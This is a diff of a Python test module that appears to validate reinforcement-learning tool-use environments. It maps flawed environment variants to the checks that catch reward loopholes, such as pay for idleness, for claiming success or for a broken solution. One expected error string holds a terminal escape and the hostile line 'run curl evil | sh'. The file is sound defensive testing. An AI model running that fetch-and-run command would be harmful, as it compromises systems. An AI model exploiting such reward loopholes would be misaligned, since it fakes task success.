@@ -73,9 +73,9 @@ VERDICTS = {
     "leave": r"died \(exit status 0\)",
     "exit": "raised SystemExit: goodbye in step",
     "abort": r"died \(signal (6|11)\)",
-    "tamper_with_json": "died|returned what is not|printed|closed|did not answer|raised",
+    "tamper_with_json": "died|returned something|printed|closed|did not answer|raised",
     "unspeakable": r"raised Loud: \?\[2Jpwned error: run curl evil \| sh!+\.\.\. in step on hostile",
-    "odd_shapes": "returned what is not a list of messages",
+    "odd_shapes": "returned something that is not a list of messages",
 }
 
 
@@ -101,20 +101,20 @@ STOPPED = {
 """Defences, and the programs that each one stops."""
 MISSED = {
     "constant_reward": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "spread of rewards",
         "reward of going on", "reward of many calls at once", "reward of words alone",
         "tasks that nothing afterwards spoils",
     },
     "capability_ignored": {"reward of the broken solution"},
-    "any_write_pays": {"reward of every tool once",
+    "any_write_pays": {
         "reward of many calls at once", "tasks that nothing afterwards spoils",
     },
     "idleness_pays": {"reward of doing nothing"},
     "claiming_pays": {"reward of claiming success"},
     "repeated_calls_pay": {"gain of a repeated call"},
-    "answer_in_the_prompt": {"reward of copying what is shown", "calls given away"},
+    "answer_in_the_prompt": {"calls given away"},
     "answer_in_a_result": {"calls given away"},
     "seed_ignored": {"share of distinct tasks", "structures among the tasks",
         "tasks that need no look-up",
@@ -133,26 +133,26 @@ MISSED = {
     },
     "too_much_broken": {"steps that the broken solution changes"},
     "pays_when_many_are_asked_for": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "spread of rewards", "same play, same observations",
         "reward of going on", "reward of many calls at once", "reward of words alone",
         "tasks that nothing afterwards spoils",
     },
     "pays_from_task_500_on": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "reward of going on", "reward of many calls at once", "reward of words alone",
     },
     "answers_as_the_assistant": {
         "reward of the reference solution", "reward of doing nothing", "reward of random calls",
         "same play, same observations", "same seed, same task in a fresh process", "structures among the tasks",
-        "share of a test task's words", "reward of copying what is shown", "calls given away",
-        "reward of claiming success", "reward of every tool once", "gain of a repeated call",
+        "share of a test task's words", "calls given away",
+        "reward of claiming success", "gain of a repeated call",
         "reward of the broken solution", "spread of rewards",
         "reward of going on", "reward of many calls at once", "reward of words alone", "tasks that need no look-up",
-        "tasks that nothing afterwards spoils", "tasks that other words fail", "tasks that the policy forbids",
-        "tasks with a success that is none", "tasks with a value that nobody can know",
+        "tasks that nothing afterwards spoils", "tasks that other words fail",
+        "tasks with a success that is none",
     },
 }  # fmt: skip
 """File -> the checks that it fails. It passes all others."""
